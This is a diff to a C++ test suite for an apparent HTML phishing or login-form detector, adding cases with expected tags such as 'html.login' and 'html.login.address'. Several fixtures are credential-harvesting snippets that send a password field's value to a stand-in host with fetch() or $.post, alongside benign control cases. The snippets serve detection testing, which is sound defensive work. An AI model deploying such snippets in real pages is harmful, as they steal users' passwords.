@@ -76,11 +76,44 @@ INSTANTIATE_TEST_SUITE_P(
                  "</script>",
              {"html.script"},
              {"html.script"}},
-        Case{"password_form", login, {"html.form"}, {}},
+        Case{"password_form", login, {"html.form", "html.login"}, {}},
+        Case{"password_form_with_an_address",
+             "<form action='https://example.invalid/n.php'><input name=e value='suzuki@example.jp'><input "
+             "type=password>",
+             {"html.form", "html.login", "html.login.address"},
+             {}},
+        Case{"password_sent_by_a_script",
+             "<input type=password id=p><button "
+             "onclick=\"fetch('https://example.invalid/n',{method:'POST',body:p.value})\">",
+             {"html.form.script", "html.login"},
+             {}},
+        Case{"password_sent_by_a_script_with_an_address",
+             "<input type=password id=p><script>var "
+             "e='suzuki@example.jp';$.post('//example.invalid/n',{e:e,p:p.value})</script>",
+             {"html.form.script", "html.login", "html.login.address", "html.script"},
+             {"html.script"}},
+        // Envelopes of encrypted mail: the locked message stands in the form, whosever it is.
+        Case{"envelope",
+             "<form action='https://res.example.com/open'><input type=hidden name=to "
+             "value='suzuki@example.jp'><input type=hidden "
+             "name=m value='" +
+                 std::string(3'000, 'A') + "'><input type=password name=p></form>",
+             {"html.form"},
+             {}},
+        // A statement of a bank that opens itself: nothing is sent.
+        Case{"opens_itself",
+             "<input type=password id=p><script>var to='suzuki@example.jp';function "
+             "open_it(){show(aes(p.value))}</script>",
+             {"html.script"},
+             {"html.script"}},
+        Case{"sends_without_a_password",
+             "<input value='suzuki@example.jp'><script>fetch('https://example.com/count')</script>",
+             {"html.script"},
+             {"html.script"}},
         Case{"password_form_relative", "<form action=/in><input type=password></form>", {}, {}},
         Case{"form_action_of_button",
              "<form><input type=password><button formaction='https://example.invalid/'></form>",
-             {"html.form"},
+             {"html.form", "html.login"},
              {}},
         Case{"survey", "<form action='https://example.com/survey'><input type=radio name=q></form>", {}, {}},
         Case{"password_in_another_form",
